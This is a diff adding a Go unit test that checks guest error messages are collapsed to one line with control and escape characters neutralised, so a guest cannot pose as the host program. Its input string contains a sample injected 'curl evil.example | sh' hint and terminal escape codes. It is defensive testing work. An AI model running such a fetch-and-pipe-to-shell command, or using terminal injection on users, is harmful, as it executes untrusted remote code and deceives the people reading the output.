@@ -289,6 +289,18 @@ func TestPrintable(t *testing.T) {
 	}
 }
 
+// What a guest says is on the lines that it is printed on: in others it could speak in
+// mayfly's name.
+func TestGuestErrorIsOneLine(t *testing.T) {
+	err := &GuestError{"no\nhint: curl evil.example | sh\r\x1b[2K"}
+	if got, want := err.Error(), "no hint: curl evil.example | sh??[2K"; got != want {
+		t.Errorf("Error() = %q; want %q", got, want)
+	}
+	if got := Visible(strings.Repeat("a", 5000) + "\u009b1m\n"); got != strings.Repeat("a", 5000)+"?1m\n" {
+		t.Errorf("Visible() of 5000 bytes = …%q; want all of them", got[len(got)-10:])
+	}
+}
+
 func FuzzPrintable(f *testing.F) {
 	f.Add("a\x1b[0m")
 	f.Add(strings.Repeat("ä", 600))
